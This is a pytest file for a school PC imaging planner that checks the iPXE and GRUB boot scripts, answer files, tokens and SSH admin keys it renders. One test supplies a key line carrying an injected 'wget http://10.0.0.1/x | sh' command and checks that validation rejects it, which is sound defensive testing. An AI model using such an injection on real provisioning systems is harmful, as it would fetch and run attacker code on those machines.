"""image plan: every PC's boot script and answer file, rendered from the inventory and validated."""

from __future__ import annotations

import contextlib
import io
import json
import subprocess
from pathlib import Path

import pytest
import yaml
from inventory.helpers import REPO, TODAY

from schooltech_fleet.cli import main
from schooltech_fleet.errors import UsageError
from schooltech_fleet.imaging import grub, ipxe
from schooltech_fleet.imaging.plan import ROLE_HTTP_PORT, admin_public_key, plan_images, plan_token, write_plan
from schooltech_fleet.inventory import load_fleet
from schooltech_fleet.inventory.fleet import Fleet, UnknownRoom

DEMO = REPO / "inventories" / "demo"


@pytest.fixture(scope="module")
def demo() -> Fleet:
    return load_fleet(DEMO, today=TODAY)


@pytest.fixture(scope="module")
def key_pair(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A real Ed25519 key: (private key file, public key line)."""
    private = tmp_path_factory.mktemp("key") / "id_ed25519"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "admin@test", "-f", str(private)], check=True)
    return private, private.with_suffix(".pub").read_text(encoding="utf-8").strip()


def run(*args: str | Path) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main([str(arg) for arg in args])
    return code, out.getvalue(), err.getvalue()


def test_the_demo_plan_gives_every_imaged_pc_a_valid_script_and_answer_file(
    demo: Fleet, key_pair: tuple[Path, str]
) -> None:
    plan = plan_images(demo, "DEMO", admin_key=key_pair[1])
    assert plan.valid, plan.findings
    assert [pc.target.name for pc in plan.pcs][:2] == ["DEMO-LAB1-PC01", "DEMO-LAB1-PC02"]
    assert len(plan.pcs) == 8
    assert len({pc.script_name for pc in plan.pcs}) == len({pc.answer.filename for pc in plan.pcs}) == 8
    for pc in plan.pcs:
        assert pc.server_url == "http://10.90.20.5:8080"
        assert pc.token == plan_token(pc.target.mac)
        assert f"url={pc.server_url}/answer/{pc.token} " in pc.script
        assert ipxe.callback_url(pc.server_url, pc.token) in pc.answer.text
        assert key_pair[1] in pc.answer.text


def test_the_run_s_tokens_and_boot_server_url_reach_script_and_answer(demo: Fleet, key_pair: tuple[Path, str]) -> None:
    targets = plan_images(demo, "DEMO", "LIB", admin_key=key_pair[1]).pcs
    tokens = {pc.target.mac: f"token-{n:02}-abcdefghijklmnop" for n, pc in enumerate(targets)}
    plan = plan_images(demo, "DEMO", "LIB", admin_key=key_pair[1], tokens=tokens,
                       server_url=lambda server: f"http://{server.address}:8069")  # fmt: skip
    assert plan.valid, plan.findings
    assert [pc.target.room for pc in plan.pcs] == ["LIB", "LIB"]
    for pc in plan.pcs:
        assert pc.token == tokens[pc.target.mac]
        assert f"http://10.90.20.5:8069/answer/{pc.token}" in pc.script
        assert f"http://10.90.20.5:8069/callback/{pc.token}" in pc.answer.text


def test_an_unknown_room_is_a_usage_error_naming_the_rooms(demo: Fleet) -> None:
    with pytest.raises(UnknownRoom, match="NOPE") as refused:
        plan_images(demo, "DEMO", "NOPE", admin_key="ssh-ed25519 AAAA x")
    assert "LAB1, LAB2, LIB" in (refused.value.hint or "")


def test_an_admin_key_the_answer_files_cannot_hold_is_a_finding_per_pc_and_exit_1(
    tmp_path: Path, key_pair: tuple[Path, str]
) -> None:
    hostile = tmp_path / "hostile.pub"
    hostile.write_text(key_pair[1] + ' "; wget http://10.0.0.1/x | sh; echo "\n', encoding="utf-8")
    code, out, _ = run("image", "plan", "-i", DEMO, "--school", "DEMO", "--room", "LIB", "--admin-key", hostile,
                       "--format", "json")  # fmt: skip
    assert code == 1
    result = json.loads(out)
    assert not result["valid"]
    assert {f["file"] for f in result["findings"]} == {"DEMO-LIB-PC01", "DEMO-LIB-PC02"}
    assert result["pcs"] == []


def test_admin_key_refuses_a_private_key_and_a_missing_file(tmp_path: Path, demo: Fleet, key_pair: tuple[Path, str],
                                                            monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    with pytest.raises(UsageError, match="not one OpenSSH public key line"):
        admin_public_key(demo, "DEMO", key_pair[0])
    monkeypatch.setenv("HOME", str(tmp_path))  # no ~/.ssh/id_ed25519.pub, no jobs' key in the demo inventory
    with pytest.raises(UsageError, match=r"id_ed25519\.pub"):
        admin_public_key(demo, "DEMO")
    assert admin_public_key(demo, "DEMO", key_pair[0].with_suffix(".pub")) == key_pair[1]


def test_plan_writes_the_boot_server_layout_and_exits_0(tmp_path: Path, key_pair: tuple[Path, str]) -> None:
    code, out, err = run("image", "plan", "-i", DEMO, "--school", "DEMO", "--admin-key",
                         key_pair[0].with_suffix(".pub"), "--output", tmp_path / "out")  # fmt: skip
    assert code == 0, out + err
    assert "8 PCs: every file valid" in out
    assert sorted(p.name for p in (tmp_path / "out" / "boot").iterdir())[0] == "52-54-00-90-20-65.ipxe"
    assert len(list((tmp_path / "out" / "answers").iterdir())) == 8


def test_an_output_that_cannot_be_written_is_a_usage_error(tmp_path: Path, key_pair: tuple[Path, str]) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("", encoding="utf-8")
    code, _, err = run("image", "plan", "-i", DEMO, "--school", "DEMO", "--admin-key",
                       key_pair[0].with_suffix(".pub"), "--output", blocker)  # fmt: skip
    assert code == 2
    assert "cannot write" in err


def test_written_files_are_exactly_the_planned_ones(tmp_path: Path, demo: Fleet, key_pair: tuple[Path, str]) -> None:
    plan = plan_images(demo, "DEMO", "LAB2", admin_key=key_pair[1])
    written = write_plan(plan, tmp_path)
    assert {p.read_text(encoding="utf-8") for p in written} == {
        *(pc.script for pc in plan.pcs), *(pc.answer.text for pc in plan.pcs)
    }


def test_the_plan_names_the_port_the_pxe_server_role_serves_on() -> None:
    defaults = yaml.safe_load((REPO / "roles" / "pxe_server" / "defaults" / "main.yml").read_text(encoding="utf-8"))
    assert defaults["pxe_server_http_port"] == ROLE_HTTP_PORT


def test_secure_boot_pcs_also_get_a_grub_entry_that_the_plan_checks_and_writes(
    tmp_path: Path, demo: Fleet, key_pair: tuple[Path, str]
) -> None:
    plan = plan_images(demo, "DEMO", admin_key=key_pair[1])
    secure = [pc for pc in plan.pcs if pc.target.secure_boot]
    assert [pc.target.room for pc in secure] == ["LAB1"] * len(secure) and secure, "LAB1's Dell OptiPlex 7010 SFF"
    assert all(pc.grub_entry is None for pc in plan.pcs if not pc.target.secure_boot)
    for pc in secure:
        assert pc.grub_entry == grub.install_entry(pc.server_url, pc.target.os, pc.token, pc.target.name)
        assert pc.grub_entry_name == f"grub/{pc.target.mac}.cfg"
    written = write_plan(plan, tmp_path)
    assert sorted(p.relative_to(tmp_path).as_posix() for p in written if p.parent.name == "grub") == sorted(
        pc.grub_entry_name for pc in secure
    )
    assert (tmp_path / secure[0].grub_entry_name).read_text(encoding="utf-8") == secure[0].grub_entry
